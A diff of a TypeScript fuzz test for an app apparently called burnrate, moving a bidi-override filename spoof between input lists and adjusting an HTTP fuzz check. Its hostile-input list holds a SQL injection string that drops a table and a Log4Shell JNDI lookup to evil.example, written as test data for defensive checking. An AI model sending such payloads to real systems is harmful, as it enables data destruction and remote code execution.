@@ -68,7 +68,6 @@ const HOSTILE = [
   "Robert'); DROP TABLE usage_events_v1;--",
   '${jndi:ldap://evil.example/a}',
   '*bold* _italic_ ~strike~ `code` >quote',
-  'ok\u202Egnp.exe',
   '💸🚀 ünïcødé',
 ];
 /** What must not appear verbatim in a Slack message (mrkdwn control) or an email's HTML. */
@@ -150,6 +149,7 @@ const DEFECTS: [string, (r: Record<string, unknown>) => Record<string, unknown>]
   ['a NUL', (r) => ({ ...r, session_id: 'a\u0000b' })],
   ['a bell', (r) => ({ ...r, project: 'ring\u0007' })],
   ['an escape sequence', (r) => ({ ...r, developer: '\u001b[31mred', developer_email: undefined })],
+  ['a bidi override in an identifier', (r) => ({ ...r, session_id: 'ok\u202Egnp.exe' })],
   ['a 10,000-character developer', (r) => ({ ...r, developer: 'x'.repeat(10_000), developer_email: undefined })],
   ['a 2 MB-ish email', (r) => ({ ...r, developer_email: `${'a'.repeat(300)}@acme.com` })],
   ['an empty model', (r) => ({ ...r, model: '' })],
@@ -394,7 +394,7 @@ describe('fuzzing the HTTP port of burnrate start', () => {
         problems.push(`#${n} ${request.kind}: ${res.status} ${text.slice(0, 300)}`);
         continue;
       }
-      if (request.path === '/v1/logs') {
+      if (request.kind === 'otlp logs') {
         const body = JSON.parse(text) as { partialSuccess?: { rejectedLogRecords?: string } };
         otlpRecords += 1;
         otlpRejected += Number(body.partialSuccess?.rejectedLogRecords ?? 0);
